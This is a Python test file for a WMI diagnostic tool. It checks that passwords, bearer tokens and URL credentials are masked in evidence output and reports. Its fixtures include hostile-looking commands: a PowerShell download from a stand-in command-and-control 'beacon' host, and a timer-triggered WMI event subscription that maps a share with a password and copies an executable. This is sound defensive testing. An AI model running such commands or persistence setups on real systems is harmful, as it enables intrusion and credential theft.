"""Secrets written into evidence never reach a report: every output passes the sanitiser, which masks the
known forms (knowledge/secret_patterns.tsv). Hand-made consumers and strings: no corpus artifact holds one."""

from __future__ import annotations

import json

import pytest

from wmidoctor.evidence.model import Binding, EventConsumer, EventFilter, Evidence
from wmidoctor.knowledge.secrets import MASK, mask_secrets
from wmidoctor.output import terminal_safe

CASES = [
    ("net use \\\\fs01\\c$ P@ssw0rd! /user:CORP\\admin", "P@ssw0rd!"),
    ("schtasks /create /tn up /ru admin /p:Hunter2 /tr c:\\x.exe", "Hunter2"),
    ("$s = ConvertTo-SecureString 'S3cret!' -AsPlainText -Force", "S3cret!"),
    ("Connect-Thing -Password Pa55word -Server x", "Pa55word"),
    ("curl -u bob:pa55w0rd https://update.example", "pa55w0rd"),
    ("powershell iwr https://alice:pw123@c2.example/beacon", "pw123"),
    ("Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.x", "eyJhbGciOiJIUzI1NiJ9.e30.x"),
    ("connect.exe password=abc123;server=x", "abc123"),
]


@pytest.mark.parametrize(("text", "secret"), CASES)
def test_each_known_form_is_masked_and_the_rest_kept(text: str, secret: str) -> None:
    masked = mask_secrets(text)
    assert secret not in masked and MASK in masked
    assert masked.split(MASK)[0] == text.split(secret)[0]  # what comes before the secret is kept


@pytest.mark.parametrize(
    "text",
    [
        "http://example.com:8080/path",
        "the password policy requires 14 characters",
        "SELECT * FROM Win32_Process",
        "C:\\Windows\\System32\\wbem\\scrcons.exe",
    ],
)
def test_text_without_a_secret_is_unchanged(text: str) -> None:
    assert mask_secrets(text) == text


def test_masking_keeps_json_and_html_whole() -> None:
    document = json.dumps({"cmd": 'run -Password "xyz" now', "url": "https://u:p4ss@h/x"})
    masked = terminal_safe(document)
    assert json.loads(masked) == {"cmd": f'run -Password "{MASK}" now', "url": f"https://u:{MASK}@h/x"}
    assert terminal_safe("<code>token=abc</code>") == f"<code>token={MASK}</code>"


@pytest.mark.parametrize("fmt", ["text", "json", "html"])
def test_a_consumer_password_never_reaches_a_diagnose_report(fmt: str, tmp_path, cli) -> None:
    ev = Evidence()
    ev.identity.host = "HOST1"
    command = "cmd /c net use \\\\fs01\\share Winter2024! /user:CORP\\svc && copy \\\\fs01\\share\\x.exe c:\\x.exe"
    ev.subscriptions.filters.append(
        EventFilter(
            "root\\subscription",
            "Every5",
            "SELECT * FROM __TimerEvent",
            "WQL",
            "root\\subscription",
            "S-1-5-21-1-2-3-1001",
            "test",
        )
    )
    ev.subscriptions.consumers.append(
        EventConsumer(
            "root\\subscription",
            "CommandLineEventConsumer",
            "Updater",
            {"CommandLineTemplate": command},
            "S-1-5-21-1-2-3-1001",
            "test",
        )
    )
    ev.subscriptions.bindings.append(
        Binding("root\\subscription", '__EventFilter.Name="Every5"', 'CommandLineEventConsumer.Name="Updater"', "test")
    )
    ev.subscriptions.mark_collected("test")
    saved = tmp_path / "evidence.json"
    saved.write_text(ev.to_json(), encoding="utf-8")
    out = tmp_path / f"report.{fmt}"
    result = cli("diagnose", str(saved), "--format", fmt, "--out", str(out))
    assert result.returncode in (0, 1), result.stderr
    shown = out.read_text(encoding="utf-8") + result.stdout + result.stderr
    assert "net use" in shown and MASK in shown  # the payload is shown (in full, as for any consumer)...
    assert "Winter2024!" not in shown  # ...but not its password
